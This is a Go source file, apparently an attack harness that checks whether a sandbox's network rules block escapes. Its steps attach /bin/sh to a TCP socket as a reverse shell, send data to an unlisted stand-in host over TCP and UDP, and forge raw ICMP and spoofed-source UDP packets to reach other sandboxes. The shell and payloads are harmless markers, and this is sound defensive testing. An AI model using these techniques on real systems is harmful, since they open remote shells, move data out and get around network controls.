package main

import (
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// patience is how long a peer may take to answer.
const patience = 3 * time.Second

func argument(args []string, variable, otherwise string) string {
	if len(args) > 0 && args[0] != "" {
		return args[0]
	}
	if v := os.Getenv(variable); v != "" {
		return v
	}
	return otherwise
}

// reverseShell connects to a peer and runs a shell on the connection. The
// first argument is a peer that may be called, the second one that may not.
func reverseShell(args []string) []Step {
	allowed := argument(args, "ATTACK_PEER", "web:8080")
	unlisted := "203.0.113.7:4444"
	if len(args) > 1 {
		unlisted = args[1]
	}
	return []Step{
		shellOn("shell to the allowed "+allowed, allowed),
		shellOn("shell to the unlisted "+unlisted, unlisted),
		shellThroughPipe(allowed),
	}
}

// shellOn has /bin/sh talk to the connection itself; its exit code shows that
// it ran.
func shellOn(try, address string) Step {
	c, err := net.DialTimeout("tcp", address, patience)
	if err != nil {
		return Step{Try: try, Seen: "connect: " + why(err)}
	}
	defer c.Close()
	f, err := c.(*net.TCPConn).File()
	if err != nil {
		return Step{Try: try, Seen: why(err)}
	}
	defer f.Close()
	return shell(try, f, f, f)
}

func shell(try string, in, out, errs *os.File) Step {
	// 42 is nothing a shell says by itself.
	cmd := &exec.Cmd{Path: "/bin/sh", Args: []string{"sh", "-c", "exit 42"}, Stdin: in, Stdout: out, Stderr: errs}
	err := cmd.Run()
	var exit *exec.ExitError
	switch {
	case errors.As(err, &exit) && exit.ExitCode() == 42:
		return Step{Try: try, Reached: true, Seen: "the shell ran with the connection as its input"}
	case err != nil:
		return Step{Try: try, Seen: "run /bin/sh: " + why(err)}
	}
	return Step{Try: try, Seen: "the shell did not say that it ran"}
}

// shellThroughPipe relays between the connection and a shell on pipes, which a
// rule about sockets does not see. It is shown, and not counted: the wanted
// end, a shell on a socket, is the other step; what is allowed to talk to an
// allowed peer can always relay.
func shellThroughPipe(address string) Step {
	const try = "shell on pipes, relayed"
	c, err := net.DialTimeout("tcp", address, patience)
	if err != nil {
		return Step{Try: try, Seen: "connect: " + why(err)}
	}
	defer c.Close()
	r, w, err := os.Pipe()
	if err != nil {
		return Step{Try: try, Seen: why(err)}
	}
	defer r.Close()
	defer w.Close()
	s := shell(try, r, w, w)
	if s.Reached {
		s.Reached, s.Seen = false, "the shell ran (not counted: it has no socket)"
	}
	return s
}

// exfiltrate sends data to an address no rule lists.
func exfiltrate(args []string) []Step {
	host := argument(args, "ATTACK_UNLISTED", "203.0.113.7")
	return []Step{
		tcp("send over TCP to "+host+":443", net.JoinHostPort(host, "443")),
		udp("send over UDP to "+host+":4444", net.JoinHostPort(host, "4444")),
		udp("send over UDP to "+host+":53", net.JoinHostPort(host, "53")),
	}
}

// tcp has reached its end if the peer takes what it is sent: it answers, or it
// neither closes nor resets the connection.
func tcp(try, address string) Step {
	c, err := net.DialTimeout("tcp", address, patience)
	if err != nil {
		return Step{Try: try, Seen: "connect: " + why(err)}
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(patience))
	host, _, _ := net.SplitHostPort(address)
	if _, err := fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", host); err != nil {
		return Step{Try: try, Seen: "connected, write: " + why(err)}
	}
	answer := make([]byte, 512)
	n, err := c.Read(answer)
	switch {
	case n > 0:
		return Step{Try: try, Reached: true, Seen: fmt.Sprintf("answered %.40q", strings.TrimSpace(string(answer[:n])))}
	case errors.Is(err, os.ErrDeadlineExceeded):
		return Step{Try: try, Reached: true, Seen: "taken, connection held open"}
	case errors.Is(err, io.EOF):
		return Step{Try: try, Seen: "connected, closed without an answer"}
	}
	return Step{Try: try, Seen: "connected, read: " + why(err)}
}

// udp has reached its end only if there is an answer: a datagram that was sent
// may have been dropped outside.
func udp(try, address string) Step {
	c, err := net.DialTimeout("udp", address, patience)
	if err != nil {
		return Step{Try: try, Seen: "connect: " + why(err)}
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(time.Second))
	if _, err := c.Write([]byte("hauberk attack")); err != nil {
		return Step{Try: try, Seen: "send: " + why(err)}
	}
	if _, err := c.Read(make([]byte, 512)); err == nil {
		return Step{Try: try, Reached: true, Seen: "answered"}
	} else if !errors.Is(err, os.ErrDeadlineExceeded) {
		return Step{Try: try, Seen: "sent, receive: " + why(err)}
	}
	return Step{Try: try, Seen: "sent, no answer"}
}

// bypass talks to another sandbox without the mesh: by its address, by UDP, by
// packets made by hand.
func bypass(args []string) []Step {
	address := argument(args, "ATTACK_SANDBOX", "")
	host, _, err := net.SplitHostPort(address)
	ip := net.ParseIP(host).To4()
	if err != nil || ip == nil {
		return []Step{{Try: "read the address of another sandbox", Seen: fmt.Sprintf("%q is not address:port; give it as argument or ATTACK_SANDBOX", address)}}
	}
	return []Step{
		tcp("TCP to "+address, address),
		udp("UDP to "+address, address),
		raw("ICMP to "+host, unix.IPPROTO_ICMP, ip, nil),
		raw("UDP to "+host+" with a foreign source", unix.IPPROTO_RAW, ip, spoofed(ip)),
	}
}

// raw sends a packet made by hand. Only an answer would show that it arrived;
// a spoofed one cannot have any.
func raw(try string, protocol int, to net.IP, packet []byte) Step {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, protocol)
	if err != nil {
		return Step{Try: try, Seen: "socket: " + why(err)}
	}
	defer unix.Close(fd)
	if packet == nil {
		packet = []byte{8, 0, 0xf7, 0xfe, 0, 1, 0, 0} // echo request, id 1
	}
	if err := unix.Sendto(fd, packet, 0, &unix.SockaddrInet4{Addr: [4]byte(to)}); err != nil {
		return Step{Try: try, Seen: "send: " + why(err)}
	}
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 1})
	buf := make([]byte, 512)
	for end := time.Now().Add(time.Second); time.Now().Before(end); {
		n, from, err := unix.Recvfrom(fd, buf, 0)
		if err != nil {
			break
		}
		if a, ok := from.(*unix.SockaddrInet4); ok && a.Addr == [4]byte(to) && n > 20 && buf[20] == 0 {
			return Step{Try: try, Reached: true, Seen: "answered"}
		}
	}
	return Step{Try: try, Seen: "sent, no answer"}
}

// spoofed is an IP packet that says it comes from a neighbour of its target.
func spoofed(to net.IP) []byte {
	payload := []byte("hauberk attack")
	p := make([]byte, 28, 28+len(payload))
	total := len(p) + len(payload)
	p[0], p[8], p[9] = 0x45, 64, unix.IPPROTO_UDP
	p[2], p[3] = byte(total>>8), byte(total)
	copy(p[12:], []byte{to[0], to[1], to[2], to[3] ^ 1}) // source
	copy(p[16:], to)
	p[20], p[21], p[22], p[23] = 0x11, 0x5c, 0x11, 0x5c // ports 4444
	p[24], p[25] = 0, byte(8+len(payload))
	return append(p, payload...) // the kernel fills the IP checksum; UDP may go without
}
